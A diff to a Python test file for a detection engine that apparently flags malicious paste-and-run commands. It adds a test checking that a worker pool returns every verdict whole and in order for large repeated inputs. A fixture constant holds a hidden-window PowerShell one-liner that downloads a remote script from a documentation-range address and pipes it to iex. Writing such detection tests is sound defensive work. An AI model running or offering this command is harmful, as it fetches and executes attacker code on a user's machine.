@@ -9,15 +9,23 @@ workers die on every time is never clean.
 from __future__ import annotations
 
 import json
+import threading
+from functools import partial
 from pathlib import Path
 
 import pytest
 
-from app.commands.scan import KEY_WINDOW
+from app.commands import scan
+from app.commands.scan import KEY_WINDOW, text_key
 from app.detection import Context, Engine, Level, PasteTarget
 from app.detection.engine import INCOMPLETE_RULE
 from tests.app.detection.test_hostile_new_traits import CLAIMS, CONSENTFIX
-from tests.app.detection.test_pool import markers, scan_lines  # noqa: F401  (the fixture)
+from tests.app.detection.test_pool import (  # noqa: F401  (markers: the fixture)
+    _untimed,
+    markers,
+    pool,
+    scan_lines,
+)
 
 PAGE = "https://verify.human-check.test/step2"
 RUNBOX = 'cmd /k powershell -NoExit -w h -c "iwr http://192.0.2.7:8443/a.ps1 | iex"'
@@ -135,3 +143,28 @@ def test_repeats_among_crashes_and_garbage_get_a_fresh_readings_verdict(
                 assert Level.parse(str(answer["level"])) >= Level.SUSPICIOUS
             continue
         assert got == fresh[key], (answer["id"], context)
+
+
+def test_long_runs_of_one_large_text_routed_to_one_worker_arrive_whole(engine: Engine) -> None:
+    """Runs of one key longer than FOLLOW_DEPTH and larger than FOLLOW_BYTES and a pipe (the
+    routing sends them to one worker while it has room): every answer arrives, in order, as
+    this process gives it; nothing waits on a full pipe."""
+    p, _started = pool(engine, workers=2, key=text_key)
+    big = RUNBOX + " " + "x" * 200_000
+    texts = [big] * 9 + [LONG_A, LONG_B] * 3 + [RUNBOX] * 40 + [big + "\ud800"] * 3
+    targets = ["run_dialog", "terminal", "unknown"]
+    items = [
+        json.dumps({"id": i, "text": t, "target": targets[i % 3]}) for i, t in enumerate(texts)
+    ]
+    got: list[tuple[bytes, dict[str, object]]] = []
+    done = threading.Event()
+
+    def run() -> None:
+        got.extend(_untimed(frame) for frame in p.answers(items))
+        done.set()
+
+    threading.Thread(target=run, daemon=True).start()
+    assert done.wait(timeout=300), f"{len(got)} of {len(items)} answers, then nothing"
+    answer = partial(scan._batch_frame, default=Context(), escape=True)
+    assert got == [_untimed(answer(engine, item)) for item in items]
+    assert p.failures == 0
